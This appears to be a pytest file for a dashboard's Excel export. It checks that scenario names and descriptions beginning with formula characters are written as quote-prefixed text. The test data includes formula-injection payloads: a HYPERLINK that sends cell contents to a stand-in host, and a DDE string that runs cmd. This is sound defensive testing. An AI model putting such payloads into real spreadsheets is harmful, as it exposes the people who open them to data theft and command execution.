"""The xlsx export writes a scenario's name and description as text, never as a formula: a name or
description that begins with = + - @ (or a tab or carriage return) comes out as a quote-prefixed
text cell that Excel shows as typed, even after the cell is edited."""

from __future__ import annotations

import dataclasses
import io
import zipfile

import pytest
from openpyxl import load_workbook

from sim.export import comparison_workbook, xlsx_bytes
from sim.finance import paired
from helpers import flows

HOSTILE = {
    "=": '=HYPERLINK("http://example.invalid/?"&A1,"Klik")',
    "+": "+45 12 34 56",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def workbook_bytes(plan, name: str, description: str) -> bytes:
    """The dashboard's xlsx export (sim.comparison_workbook, then sim.xlsx_bytes) of a comparison whose
    scenario carries that name and description (in the manifest sheet, as the dashboard writes it)."""
    scenario = dataclasses.replace(plan, name=name, description=description)
    manifest = {"scenario": name, "description": description, "baseline": "status-quo", "replications": 1}
    comparison = paired(*flows([[1.0, 2.0]], [[3.0, 4.0]]), plan.assumptions, manifest)
    return xlsx_bytes(comparison_workbook(comparison, scenario))


def cells_with(data: bytes, text: str) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value == text]


@pytest.mark.parametrize("start", list(HOSTILE))
@pytest.mark.parametrize("field", ["name", "description"])
def test_a_name_or_description_that_looks_like_a_formula_is_text(plan, start, field):
    hostile = HOSTILE[start]
    texts = {"name": "Plan 2027", "description": "Hurtigere udrulning", field: hostile}
    cells = cells_with(workbook_bytes(plan, texts["name"], texts["description"]), hostile)
    assert cells, f"{hostile!r} is not in the workbook as typed"
    for cell in cells:
        assert cell.data_type == "s", f"{cell.coordinate}: {cell.data_type}"
        assert cell.quotePrefix, f"{cell.coordinate}: no quote prefix, Excel would run it after an edit"


def test_the_workbook_holds_no_formula_at_all(plan):
    """No sheet of the file has a formula element: every hostile text went in as a string."""
    data = workbook_bytes(plan, HOSTILE["="], HOSTILE["@"])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for sheet in sheets:
            assert b"<f>" not in archive.read(sheet) and b"<f " not in archive.read(sheet), sheet
    wb = load_workbook(io.BytesIO(data))
    assert not [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_ordinary_text_keeps_no_prefix(plan):
    for cell in cells_with(workbook_bytes(plan, "Plan 2027", "Hurtigere udrulning"), "Plan 2027"):
        assert cell.data_type == "s" and not cell.quotePrefix
